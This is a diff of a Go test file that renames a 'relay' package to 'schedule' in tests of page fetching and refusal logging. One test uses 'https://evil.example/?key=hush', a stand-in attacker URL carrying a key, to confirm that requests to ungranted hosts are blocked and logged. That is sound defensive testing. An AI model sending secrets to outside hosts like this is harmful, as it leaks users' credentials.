@@ -8,7 +8,7 @@ import (
 
 	"github.com/data-wise/aiterm/host/config"
 	"github.com/data-wise/aiterm/host/guest/capability"
-	"github.com/data-wise/aiterm/host/line/relay"
+	"github.com/data-wise/aiterm/host/line/schedule"
 	"github.com/data-wise/aiterm/host/look/span"
 	"github.com/data-wise/aiterm/host/segment/fetch"
 )
@@ -48,8 +48,8 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 		task := r.tasks()[0]
 		task.Run = asksFor(t, asks...)
 		task.Remembered = r.recall(plan.Segments[0], task.Call)
-		o := relay.One(task)
-		if !r.Keep([]relay.Outcome{*o}) {
+		o := schedule.One(task)
+		if !r.Keep([]schedule.Outcome{*o}) {
 			t.Fatal(r.Messages)
 		}
 		text := ""
@@ -102,7 +102,7 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 	r := w.of(now, `{}`, plan)
 	task := r.tasks()[0]
 	task.Run = asksFor(t, a)
-	if o := relay.One(task); len(o.Spans) > 0 || len(r.pages["page"].Refusals()) != 1 {
+	if o := schedule.One(task); len(o.Spans) > 0 || len(r.pages["page"].Refusals()) != 1 {
 		t.Errorf("without the grant it shows %v; refusals are %q", o.Spans, r.pages["page"].Refusals())
 	}
 }
@@ -117,13 +117,13 @@ func TestRefusedPageIsLogged(t *testing.T) {
 	r := w.of(time.Now(), `{}`, plan)
 	r.Memo = nil
 	for _, task := range r.tasks() {
-		relay.One(task)
+		schedule.One(task)
 		if err := asksFor(t, "https://evil.example/?key=hush")(task.Call); err != nil {
 			t.Fatal(err)
 		}
 	}
 	r.Dirs.Cache = "" // nothing is kept
-	r.afterwards([]relay.Outcome{{}, {Late: true}})
+	r.afterwards([]schedule.Outcome{{}, {Late: true}})
 	want := []string{`segment page: https://evil.example/?… is not fetched: "evil.example" was not granted: grant http:evil.example, if you trust the segment with it`}
 	if diff := cmp.Diff(want, r.Messages); diff != "" {
 		t.Errorf("messages (-want +got):\n%s", diff)
